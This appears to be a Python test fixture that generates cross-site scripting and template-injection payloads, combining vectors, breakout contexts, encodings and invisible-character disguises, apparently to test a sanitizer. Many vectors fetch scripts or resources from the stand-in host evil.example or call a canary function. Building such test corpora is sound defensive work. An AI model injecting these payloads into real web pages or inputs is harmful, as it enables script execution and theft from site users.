"""The payloads: those of published collections, and a matrix of vectors, places to break out of, and disguises."""

import html
import json
import lzma
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

_STORE = Path(__file__).parent / "hostile" / "payloads.json.xz"

VECTORS = (
    "<script>__hit(1)</script>",
    "<ScRiPt>__hit(1)</sCrIpT >",
    "<script/x>__hit(1)</script\t>".replace("\t", " "),
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>__hit(1)</script>",
    "<scr<script>ipt>__hit(1)</scr</script>ipt>",
    "<img src=x onerror=__hit(1)>",
    "<img src=x: onerror=__hit(1)//",
    "<img/src=x/onerror=__hit(1)>",
    "<img src=https://evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<image href=x onerror=__hit(1)>",
    "<svg onload=__hit(1)>",
    "<svg/onload=__hit(1)>",
    "<svg><script>__hit(1)</script></svg>",
    "<svg><animate onbegin=__hit(1) attributeName=x dur=1s>",
    "<svg><a href=javascript:__hit(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__hit(1)/>#x'/></svg>",
    "<svg><style><img src=x onerror=__hit(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__hit(1)>",
    "<math href=javascript:__hit(1)>x</math>",
    "<body onload=__hit(1)>",
    "<body onpageshow=__hit(1)>",
    "<iframe src=javascript:__hit(1)></iframe>",
    "<iframe srcdoc='<script>parent.__hit(1)</script>'></iframe>",
    "<iframe onload=__hit(1)></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=javascript:__hit(1)></object>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<embed src=javascript:__hit(1)>",
    "<video src=x onerror=__hit(1)></video>",
    "<video><source onerror=__hit(1)></video>",
    "<audio src=x onerror=__hit(1)>",
    "<input autofocus onfocus=__hit(1)>",
    "<select autofocus onfocus=__hit(1)>",
    "<textarea autofocus onfocus=__hit(1)>",
    "<a id=x tabindex=1 autofocus onfocus=__hit(1)>x</a>",
    "<a href=javascript:__hit(1)>x</a>",
    "<a href=JaVaScRiPt&colon;__hit(1)>x</a>",
    "<a href='java&Tab;script:__hit(1)'>x</a>",
    "<a href='data:text/html,<script>__hit(1)</script>'>x</a>",
    "<form action=javascript:__hit(1)><button autofocus>x</button></form>",
    "<button formaction=javascript:__hit(1)>x</button>",
    "<details open ontoggle=__hit(1)>x</details>",
    "<marquee onstart=__hit(1)>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__hit(1)>x</b>",
    "<div style=background:url(https://evil.example/x)>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x onerror=__hit(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:__hit(1)'>",
    "<base href=https://evil.example/>",
    "<noscript><p title='</noscript><img src=x onerror=__hit(1)>'>",
    "<template><script>__hit(1)</script></template><img src=x onerror=__hit(1)>",
    "<x onpointerenter=__hit(1) style=position:fixed;inset:0>x</x>",
    "javascript:__hit(1)",
    "javascript://x.gov.cn/%0a__hit(1)",
    "data:text/html,<script>__hit(1)</script>",
    "';__hit(1)//",
    "\\';__hit(1)//",
    "${__hit(1)}",
    "{{__hit(1)}}",
    "{{constructor.constructor('__hit(1)')()}}",
    "{% set x = __hit(1) %}{{ 7*7 }}{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "<%= __hit(1) %>#{__hit(1)}",
)
PLACES = (
    "{}",
    '"{}',
    '">{}',
    "'>{}",
    "`{}",
    "</title>{}",
    "</textarea>{}",
    "</style>{}",
    "</script>{}",
    "</svg>{}",
    "</a></p></div></main>{}",
    "-->{}<!--",
    "<!--{}-->",
    "]]>{}",
    '" onfocus="__hit(1)" autofocus x="{}',
    "[a]({})",
    "![a]({})",
    "[a][x]\n\n[x]: {}",
    "# {}",
    "`{}`",
    "<{}>",
    "|a|\n|-|\n|{}|",
)

_Disguise = Callable[[str], str]
DISGUISES: tuple[_Disguise, ...] = (
    str,
    html.escape,
    lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'&:(" else c for c in text),
    lambda text: "".join(f"&#x{ord(c):x};" for c in text[:60]),
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: "".join(chr(ord(c) + 0xFEE0) if c in "<>\"'/=()" else c for c in text),
)
INVISIBLE: tuple[_Disguise, ...] = (
    lambda text: "\u202e" + text,
    lambda text: text.replace("script", "scr\u200bipt").replace("=", "\u2060="),
    lambda text: text.replace("<", "<\0").replace(":", "\t:"),
    lambda text: "\ufeff" + text,
)


def payloads() -> list[str]:
    """Every payload once; most are to be shown, those with invisible signs are to be refused."""
    theirs = json.loads(lzma.decompress(_STORE.read_bytes()))
    found = [text for texts in theirs.values() for text in texts]
    placed = [place.replace("{}", vector) for vector in VECTORS for place in PLACES]
    found += [disguise(text) for disguise in DISGUISES for text in placed]
    found += [hide(vector) for hide in INVISIBLE for vector in VECTORS]
    return list(dict.fromkeys(found))
